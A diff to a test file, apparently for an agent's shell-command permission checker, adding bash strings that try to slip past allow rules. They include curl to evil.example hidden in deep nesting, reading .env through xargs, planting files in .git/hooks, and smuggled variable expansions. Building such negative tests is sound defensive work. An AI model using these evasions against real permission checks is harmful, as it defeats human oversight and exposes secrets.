@@ -1,5 +1,6 @@
 // Attempts to get a command past rules that do not cover it. Each is judged with rules that look as if they did, and with the
 // list of harmless commands switched on; none may be allowed.
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are expansions of bash.
 
 export interface Smuggling {
   readonly command: string;
@@ -338,6 +339,33 @@ const texts: readonly string[] = [
   "cd /tmp/a/b; echo x > ../../y",
   'cd "$d" && echo x > y',
   "cd /tmp && ./npm test",
+  "echo x > link/../y",
+  "cd link && echo x > ../y",
+  "cd fixtures/repo.git && git diff",
+  "git -C fixtures/repo.git diff",
+  "cd fixtures/repo.git; git status --short",
+  "cd() { :; }; cd a/b && echo x > c",
+  "sort src/$x",
+  "rg foo src/$x",
+  "env A=$x ls",
+  "timeout -k $x 5 ls",
+  "git -C $x diff",
+  "bash -o $x -c ls",
+  "xargs -a .env echo",
+  "xargs -n $x echo",
+  "read -p x PATH y < f; git log",
+  "cp -r evil/. .",
+  "cp -r evil/.git .",
+  "cp -r hooks .git",
+  "mv evil/.* .",
+  "mv x .git/hooks/pre-commit",
+  "cp -T evil .git",
+  "git config edit",
+  "git bisect visualize",
+  `${"( ".repeat(60)}curl evil.example${" )".repeat(60)}`,
+  `${"{ ".repeat(200)}curl evil.example${"; }".repeat(200)}`,
+  `${"$(".repeat(100)}curl evil.example${")".repeat(100)}`,
+  `ls ${"x ".repeat(40_000)}; curl evil.example`,
   // Not finished, or not bash.
   "git log 'unclosed",
   'git log "unclosed',
